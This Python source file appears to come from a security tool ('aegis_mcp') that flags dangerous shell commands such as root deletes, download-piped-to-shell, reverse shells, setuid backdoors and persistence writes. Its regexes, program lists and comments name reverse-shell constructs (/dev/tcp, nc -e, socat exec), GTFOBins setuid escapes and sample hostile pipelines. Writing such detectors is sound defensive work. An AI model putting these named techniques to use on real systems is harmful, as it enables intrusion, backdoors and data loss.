"""Rules for one simple command of a shell line: what the program does (deletes, pipes into a shell, escalates, persists, probes).

shell.py tokenises a line into simple commands; each is judged here by its program name and
arguments, with host-level rules (containers, defence evasion) from shell_host.py.
"""

from __future__ import annotations

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors import path_targets as T
from aegis_mcp.engine.detectors import shell_host as H
from aegis_mcp.engine.detectors import shell_parse as P
from aegis_mcp.engine.detectors.paths import normalise as norm_path

Finding = tuple[str, int, str]

_SHELLS = frozenset("sh bash zsh dash ksh csh tcsh fish ash busybox python python2 python3 perl ruby php node nodejs lua pwsh powershell iex cmd cmd.exe invoke-expression".split())
_FETCHERS = frozenset("curl wget fetch lwp-download aria2c http httpie nc ncat netcat socat tftp ftp scp invoke-webrequest iwr".split())
_DECODERS = frozenset("base64 base32 xxd openssl gunzip zcat uudecode rev".split())
_NET = frozenset("curl wget nc ncat netcat socat scp sftp ftp tftp rsync ssh telnet sendmail mail".split())
_RECON = frozenset("id whoami uname hostname ifconfig ipconfig netstat systeminfo sysinfo ver getuid env printenv set".split())
_INTERP_FLAGS = {"python": "-c", "python2": "-c", "python3": "-c", "perl": "-e", "ruby": "-e", "php": "-r", "node": "-e", "lua": "-e"}
_REMOTE_HINT = regex.compile(r"(?i)\b(?:curl|wget|nc|ncat|socat|bash\s+-i)\b|/dev/(?:tcp|udp)/|https?://")
_PRINTERS = frozenset({"printf", "echo"})
_RAW_SOCKETS = frozenset("nc ncat netcat socat telnet openssl".split())
_SETUID_MODES = frozenset({"4755", "4777", "6755", "4711", "4750", "u+s", "+s", "a+s", "ug+s"}) | {"777", "a+rwx"}
# Programs that hand out a shell when setuid (GTFOBins): a setuid copy is a root backdoor.
_SUID_ESCAPES = frozenset("bash sh dash zsh ksh python python2 python3 perl ruby php node find vim vi less more nano cp env awk nmap".split())
_NO_STDIN = frozenset("id whoami uname ls dir pwd hostname ifconfig ipconfig netstat systeminfo sysinfo net netsh type ping sleep nslookup reg which echo wget".split())
_SYSTEMISH = regex.compile(r"(?i)^(?:/|/(?:etc|var|root|home|tmp|usr|proc|boot)(?:/.*)?|[a-z]:\\.*|[a-z]:/.*|%\w+%.*|\\.*)$")
_REVERSE = regex.compile(r"(?i)/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^|;&]*\s-(?:[a-z]*e|c)\b|\bsocat\b.*\b(?:exec|system):|\bmkfifo\b.*\b(?:nc|ncat|netcat|telnet|openssl)\b|\bsocket\b.*\b(?:subprocess|pty\.spawn|dup2|/bin/(?:ba)?sh)|\bfsockopen\s*\(|\bTCPSocket\b|New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient|Net\.Sockets\.TCPClient\]::new|\bpowercat\b.*\s-e\b|Invoke-PowerShellTcp|\bncat\b.*\s--(?:sh-|lua-)?exec\b|\bmknod\b.*\sp\b.*\b(?:nc|ncat|netcat|telnet|openssl)\b|\bnet\.Dial\b.*\bexec\.Command"
    r"|\bnet['\"]?\)?\.(?:connect|createConnection|Socket)\s*\(.*(?:child_process|\bspawn\s*\()|(?:child_process|\bspawn\s*\().*\bnet['\"]?\)?\.(?:connect|createConnection|Socket)\s*\("
    r"|/inet/tcp/|\bsocket\s*\(\s*\w+\s*,\s*PF_INET|\bsocket\.tcp\s*\(|\bztcp\b|\bxterm\b.*\s-display\s+\d|\bnet\.Socket\s*\(.*(?:spawn|exec)\s*\("
    r"|\bs_client\b.*\|\s*(?:/bin/)?(?:ba)?sh\b|\btelnet\b[^|;]*\|\s*(?:/bin/)?(?:ba)?sh\b[^|;]*\|\s*telnet\b")
_DEV_WRITE = regex.compile(r"^/dev/(?:sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|mmcblk\d|disk\d|mapper/)")
_ROOTISH = regex.compile(r"^(?:/|/\*|~|~/|~/\*|\$home/?|\$\{home\}/?|/(?:etc|usr|var|bin|sbin|lib|lib64|boot|home|root|opt|sys|proc|dev)/?\*?|\.\*?|c:[/\\]?\*?)$")

# Relative build output and caches a project regenerates (`rm -rf ./build node_modules`), and ~/.cache/<tool>.
_BUILD_OUTPUT = regex.compile(
    r"^(?:\./)?(?:[\w.-]+/)*(?:build|dist|out|target|node_modules|__pycache__|\.pytest_cache|\.mypy_cache|\.ruff_cache|\.tox|\.nox"
    r"|coverage|htmlcov|\.next|\.nuxt|\.parcel-cache|\.gradle|\.turbo|\.eggs|[\w.-]+\.egg-info|cmake-build-[\w-]+|\.cache)/?$"
    r"|^~/\.cache/[\w.-]+/?$")


# What a project's build leaves behind and regenerates: bytecode, objects, coverage data, editor and OS litter.
_ARTEFACT_NAME = regex.compile(
    r"(?i)^(?:\*\.(?:pyc|pyo|o|obj|class|gcda|gcno|coverage|swp|swo|orig|rej|tmp)|\*~|__pycache__|\.pytest_cache|\.mypy_cache"
    r"|\.ruff_cache|\.ds_store|thumbs\.db|\.coverage|\*\.egg-info)$")


def _own_artefacts(args: list[str]) -> bool:
    """`find <relative tree> -name <artefact glob> ... -delete|-exec rm`: every name filter an artefact."""
    start = args[0]
    if start.startswith(("/", "~", "$", "-")) or ".." in start or ":" in start:
        return False
    names = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-name", "-iname")]
    return bool(names) and all(_ARTEFACT_NAME.search(n) is not None for n in names) \
        and not any(a in ("-o", "-or", "!", "-not") for a in args)


# The machine's own program, library and configuration trees: moved away, nothing runs (like `rm -rf /bin`).
_SYSTEM_TREE = regex.compile(r"^/+(?:(?:usr/+(?:local/+)?)?(?:s?bin|lib(?:32|64|exec)?)|usr|etc|boot|var|root|home|dev|proc|sys|opt)?/*\*?$")


def _moves_system_dir(args: list[str]) -> bool:
    """`mv /bin /tmp/`, `mv -t /tmp /usr/lib`: a source is a root or system tree (the destination is not judged)."""
    words, target_flag, skip = [], False, False
    for a in args:
        if skip:
            skip = False
            continue
        if a in ("-t", "--target-directory"):
            target_flag = skip = True
        elif a.startswith("--target-directory=") or a.startswith("-t") and len(a) > 2 and not a.startswith("--"):
            target_flag = True
        elif not a.startswith("-"):
            words.append(a)
    sources = words if target_flag else words[:-1]
    return any(_SYSTEM_TREE.search(w.lower()) is not None for w in sources)


def _rm_findings(args: list[str]) -> list[Finding]:
    flags = "".join(a.lstrip("-") for a in args if a.startswith("-") and not a.startswith("--")) + " ".join(a for a in args if a.startswith("--"))
    recursive = "r" in flags.lower() or "recursive" in flags
    targets = [a for a in args if not a.startswith("-")]
    if any(_ROOTISH.search(t.lower()) for t in targets) and (recursive or "f" in flags):
        return [("destructive", 3, f"rm {' '.join(args)[:60]} deletes a root, home or system directory")]
    if targets and all(_BUILD_OUTPUT.search(t) and ".." not in t for t in targets):
        return [("destructive", 1, "recursive delete of build output or caches")]  # (quality-calls: recorded, not held)
    if recursive or "f" in flags:
        return [("destructive", 2, "recursive/forced delete")]
    return []


# Every program some rule below (or in shell_host.segment_findings) reads. A simple command that
# runs none of them, with no redirection, no sudo and no leading VAR=value, cannot produce a
# finding: most ordinary commands (`git status`, `xxd file`, `tar -czf a.tgz dir`) stop there.
_RULE_PROGRAMS = (
    _SHELLS | _NO_STDIN | _RECON | frozenset(_INTERP_FLAGS) | H.SEGMENT_PROGRAMS
    | frozenset(
        "rm mv del rmdir rd remove-item wipefs shred fdisk parted sfdisk format diskpart find dd chmod chown chgrp useradd adduser "
        "usermod userdel groupdel passwd chpasswd visudo setcap groupadd net crontab systemctl launchctl update-rc.d chkconfig kubectl "
        "terraform pulumi git tee netsh reg pwd which whereis tasklist nslookup route sleep ping ls dir cat type more wget curl source .".split()
    )
)


def segment_findings(seg: P.Segment, pipeline_prev: list[str], in_value: bool, flags: frozenset[str] = frozenset(), chained: bool = False) -> list[Finding]:
    """Findings for one simple command; `pipeline_prev` names the programs piping into it."""
    name = seg.name
    cmd = seg.cmd
    if name not in _RULE_PROGRAMS and not seg.elevated and not cmd.redirs and not name.startswith("mkfs") and not (
        cmd.words and "=" in cmd.words[0]
    ):
        return []
    return _rules(seg, pipeline_prev, in_value, flags, chained)


def _rules(seg: P.Segment, pipeline_prev: list[str], in_value: bool, flags: frozenset[str], chained: bool) -> list[Finding]:
    cmd, name, args, elevated = seg.cmd, seg.name, seg.args, seg.elevated
    out: list[Finding] = H.segment_findings(name, args, cmd.words, cmd.redirs, in_value)
    joined = " ".join(args)
    if elevated:
        out.append(("privilege", 2, "runs with elevated privileges (sudo/su/doas)"))
    # (`curl … | source` in fish, `… | . /dev/stdin`: sourcing a download runs it like a shell would;
    # `kubectl completion fish | source` is how local tools install their completions)
    if (name in _SHELLS or name in ("source", ".") and (not args or args[0] in ("-", "/dev/stdin"))
            and any(p in _FETCHERS or p in _DECODERS for p in pipeline_prev)) \
            and cmd.joined_by in ("|", "|&") and pipeline_prev:
        # Decoded bytes or a download over plain http / from a bare IP executed unseen: block.
        # An https installer piped to sh (rustup, brew) is common and is held for a human.
        # `printf '\x63\x61\x74...' | sh` decodes as surely as base64 -d does
        decoded = any(p in _DECODERS for p in pipeline_prev) or ("hex_escape" in flags and bool(_PRINTERS.intersection(pipeline_prev)))
        fetched = any(p in _FETCHERS for p in pipeline_prev)
        shady = fetched and ("plain_url" in flags or in_value or chained)
        if any(p in _RAW_SOCKETS for p in pipeline_prev):
            # `nc host port | /bin/sh | nc host port2`: a remote peer types the commands
            out.append(("reverse_shell", 3, f"{pipeline_prev[-1]} connection piped into {name}"))
        out.append(("pipe_to_shell", 3 if decoded or shady else 2, f"{pipeline_prev[-1]} output piped into {name}"))
    if name in ("rm", "del", "rmdir", "rd", "remove-item"):
        out.extend(_rm_findings(args))
    elif name == "mv" and _moves_system_dir(args):
        out.append(("destructive", 3, f"mv {' '.join(args)[:60]} moves a system directory away"))
    elif name.startswith("mkfs") or name in ("wipefs", "shred", "fdisk", "parted", "sfdisk", "format", "diskpart"):
        out.append(("destructive", 2, f"{name} destroys a filesystem or disk"))
    elif name == "find" and args and ("-delete" in args or ("-exec" in args and "rm" in args)) and (
            _ROOTISH.search(args[0].lower()) or args[0].startswith(("/", "~", "$HOME"))):
        if _own_artefacts(args):
            # `find . -name '*.pyc' -exec rm -f {} +`: the project's own compiled leftovers, like
            # `rm -rf __pycache__` (recorded, not held); `find / -name ...` is still a root walk
            out.append(("destructive", 1, f"find {args[0]} deletes build artefacts"))
        elif _ROOTISH.search(args[0].lower()):
            out.append(("destructive", 3, f"find {args[0]} deletes everything it walks"))
        else:
            # an absolute tree (`find /srv -exec rm -f {} +`): a bulk delete outside the project, like rm -r
            out.append(("destructive", 2, f"find {args[0]} deletes the files it walks"))
    elif name == "dd" and any(a.startswith("of=/dev/") for a in args):
        out.append(("destructive", 2, "dd writes a raw device"))
    elif name in ("chmod", "chown", "chgrp"):
        if any(a in ("-R", "--recursive") or a.startswith("-") and "R" in a for a in args) and any(_ROOTISH.search(a.lower()) for a in args if not a.startswith("-")):
            out.append(("destructive", 3, f"recursive {name} of a root or system directory"))
        elif any(a in _SETUID_MODES for a in args):
            targets = [a.rsplit("/", 1)[-1].lower() for a in args if not a.startswith("-") and a not in _SETUID_MODES]
            if name == "chmod" and any(t in _SUID_ESCAPES for t in targets):
                out.append(("privilege", 3, f"setuid bit on {', '.join(targets)[:40]}: a root shell for anyone"))
            else:
                out.append(("privilege", 2, f"{name} grants broad or setuid permissions"))
    elif name in ("useradd", "adduser", "usermod", "userdel", "groupdel", "passwd", "chpasswd", "visudo", "setcap", "groupadd"):
        uid0 = name in ("useradd", "usermod") and any(args[i] in ("-u", "--uid") and args[i + 1] == "0" for i in range(len(args) - 1))
        out.append(("privilege", 3 if uid0 else 2, f"{name} creates a second root account (uid 0)" if uid0 else f"{name} changes accounts or privileges"))
    elif name == "net" and args[:1] and args[0].lower() in ("user", "localgroup", "group"):
        out.append(("privilege", 2 if len(args) < 3 else 3, "net user/localgroup (account changes or enumeration)"))
    elif name == "crontab" and not (args[:1] == ["-l"]):
        out.append(("persistence", 2, "crontab edits scheduled jobs"))
    elif name in ("systemctl", "launchctl", "update-rc.d", "chkconfig") and any(a in ("enable", "mask", "load", "bootstrap", "link") for a in args):
        out.append(("persistence", 2, f"{name} installs a service"))
    elif name == "kubectl" and args[:1] and args[0] in ("delete", "drain"):
        out.append(("destructive", 2, f"kubectl {args[0]} changes a live cluster"))
    elif name in ("terraform", "pulumi") and args[:1] and args[0] == "destroy":
        out.append(("destructive", 2, f"{name} destroy"))
    elif name == "git" and "clean" in args and any(a.startswith("-") and "f" in a for a in args if not a.startswith("--")) \
            and any(_ROOTISH.search(a.lower()) for a in args if not a.startswith("-") and a != "clean"):
        out.append(("destructive", 2, "git clean -f of a home or root tree deletes every untracked file in it"))
    elif name == "git" and "push" in args and any(a in ("-f", "--force", "--force-with-lease", "--mirror") for a in args):
        out.append(("destructive", 2, "git force-push rewrites remote history"))
    if name in _INTERP_FLAGS and _INTERP_FLAGS[name] in args and _REVERSE.search(joined):
        out.append(("reverse_shell", 3, f"{name} one-liner opens a socket shell"))
    for op, target in cmd.redirs:
        t = target.lower()
        if _DEV_WRITE.search(t) and ">" in op:
            out.append(("destructive", 3, f"redirect overwrites raw device {target}"))
        if ">" in op and T.PERSISTENCE_TARGETS.search(norm_path(t)[0]):
            # Appending a key to authorized_keys is a backdoor; a shell-profile line is held
            # unless what it adds fetches or connects (`curl ... | sh`, /dev/tcp) .
            backdoor = "authorized_keys" in t or "ld.so.preload" in t or ("sudoers" in t and "nopasswd" in joined.lower()) \
                or _REMOTE_HINT.search(joined) is not None or in_value
            out.append(("persistence", 3 if backdoor else 2, f"writes {target} (shell profile, authorized_keys, cron)"))
    if name == "tee" and any(T.PERSISTENCE_TARGETS.search(norm_path(a.lower())[0]) for a in args if not a.startswith("-")):
        out.append(("persistence", 2, "tee into a persistence file"))
    if cmd.joined_by in ("|", "|&") and name in _NO_STDIN:
        # Piping into a program that never reads stdin (`| id`, `| dir`, `| net user`) is not a
        # pipeline at all: the pipe is being used as a command separator.
        out.append(("chained_recon", 2, f"pipe into {name}, which ignores its input (pipe used as a separator)"))
    elif cmd.joined_by in (";", "&", "&&", "||", "\n") and _is_probe(name, args, "loop" in flags):
        out.append(("chained_recon", 2, f"chained {name}: reconnaissance, payload or timing probe after another command"))
    return out


def _is_probe(name: str, args: list[str], loop: bool = False) -> bool:
    """What injected commands run first: identity, system info, listings of system dirs, timing, one-liners."""
    if name in _RECON or name in ("netsh", "reg", "pwd", "which", "whereis", "tasklist", "net", "nslookup", "route"):
        return True
    if name in _INTERP_FLAGS and _INTERP_FLAGS[name] in args:
        return True
    if name in ("sleep",) and any(a.isdigit() for a in args) and not loop:
        return True
    if name in ("ping",) and any(a in ("127.0.0.1", "localhost") for a in args):
        return True
    if name in ("ls", "dir", "cat", "type", "more", "find", "wget", "curl"):
        return name in ("wget", "curl") or (name == "dir" and not args) or any(_SYSTEMISH.search(a) for a in args if not a.startswith("-"))
    return False
